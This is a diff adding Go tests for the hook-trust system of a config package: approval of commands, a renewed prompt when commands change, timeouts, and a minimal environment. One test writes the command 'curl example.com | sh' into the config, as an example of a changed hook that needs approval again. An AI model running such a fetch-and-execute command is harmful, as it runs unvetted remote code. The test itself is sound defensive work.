@@ -0,0 +1,111 @@
+package config_test
+
+import (
+	"os"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+
+	"github.com/madhuravius/brains/internal/config"
+)
+
+func TestProjectCommandsOnlyFromRepository(t *testing.T) {
+	cfg, _ := loadConfigFrom(t, "pre_commands: [make lint]\n")
+	t.Setenv("BRAINS_POST_EDIT_COMMANDS", "[make test]")
+	brainsConfig, err := config.LoadConfig()
+	assert.NoError(t, err)
+
+	assert.Equal(t, []string{"pre_commands: make lint"}, cfg.ProjectCommands())
+	assert.Equal(t, []string{"pre_commands: make lint"}, brainsConfig.GetConfig().ProjectCommands())
+}
+
+func TestTrustHooksApprovalIsRemembered(t *testing.T) {
+	cfg, _ := loadConfigFrom(t, "pre_commands: [echo hi > ran.txt]\n")
+
+	trusted, err := cfg.HooksTrusted()
+	assert.NoError(t, err)
+	assert.False(t, trusted)
+
+	asked := 0
+	approve := func(dir string, commands, previous []string) (bool, error) {
+		asked++
+		assert.Equal(t, []string{"pre_commands: echo hi > ran.txt"}, commands)
+		assert.Empty(t, previous)
+		return true, nil
+	}
+	assert.NoError(t, cfg.TrustHooks(approve))
+	assert.NoError(t, cfg.TrustHooks(approve))
+	assert.Equal(t, 1, asked)
+
+	trusted, err = cfg.HooksTrusted()
+	assert.NoError(t, err)
+	assert.True(t, trusted)
+	path, err := config.TrustStorePath()
+	assert.NoError(t, err)
+	assert.FileExists(t, path)
+
+	assert.NoError(t, cfg.PreCommandsHook())
+	assert.FileExists(t, "ran.txt")
+}
+
+func TestTrustHooksPromptsAgainWhenCommandsChange(t *testing.T) {
+	cfg, _ := loadConfigFrom(t, "pre_commands: [make lint]\n")
+	assert.NoError(t, cfg.TrustHooks(func(string, []string, []string) (bool, error) { return true, nil }))
+
+	assert.NoError(t, os.WriteFile(".brains.yml", []byte("pre_commands: [curl example.com | sh]\n"), 0o600))
+	brainsConfig, err := config.LoadConfig()
+	assert.NoError(t, err)
+	cfg = brainsConfig.GetConfig()
+
+	trusted, err := cfg.HooksTrusted()
+	assert.NoError(t, err)
+	assert.False(t, trusted)
+	var previous []string
+	assert.NoError(t, cfg.TrustHooks(func(_ string, _ []string, p []string) (bool, error) {
+		previous = p
+		return false, nil
+	}))
+	assert.Equal(t, []string{"pre_commands: make lint"}, previous)
+}
+
+func TestUntrustedHooksAreSkipped(t *testing.T) {
+	cfg, _ := loadConfigFrom(t, "pre_commands: [echo hi > ran.txt]\npost_edit_commands: [exit 1]\n")
+	assert.NoError(t, cfg.TrustHooks(func(string, []string, []string) (bool, error) { return false, nil }))
+
+	assert.NoError(t, cfg.PreCommandsHook())
+	assert.NoFileExists(t, "ran.txt")
+	assert.Empty(t, cfg.PostEditCommandsHook())
+}
+
+func TestDisabledHooksAreSkipped(t *testing.T) {
+	b := &config.BrainsConfig{
+		PreCommands: []string{"exit 1"},
+		Hooks:       config.HooksConfig{Disabled: true},
+	}
+	assert.NoError(t, b.PreCommandsHook())
+}
+
+func TestHookTimeout(t *testing.T) {
+	b := &config.BrainsConfig{
+		PostEditCommands: []string{"sleep 5"},
+		Hooks:            config.HooksConfig{Timeout: 100 * time.Millisecond},
+	}
+	results := b.PostEditCommandsHook()
+	assert.Len(t, results, 1)
+	assert.EqualError(t, results[0].Err, "timed out after 100ms")
+}
+
+func TestHookMinimalEnv(t *testing.T) {
+	t.Setenv("BRAINS_TEST_SECRET", "hunter2")
+	b := &config.BrainsConfig{
+		PostEditCommands: []string{"echo \"[$BRAINS_TEST_SECRET]\""},
+		Hooks:            config.HooksConfig{MinimalEnv: true},
+	}
+	results := b.PostEditCommandsHook()
+	assert.Len(t, results, 1)
+	assert.Equal(t, "[]\n", results[0].Output)
+
+	b.Hooks.MinimalEnv = false
+	assert.Equal(t, "[hunter2]\n", b.PostEditCommandsHook()[0].Output)
+}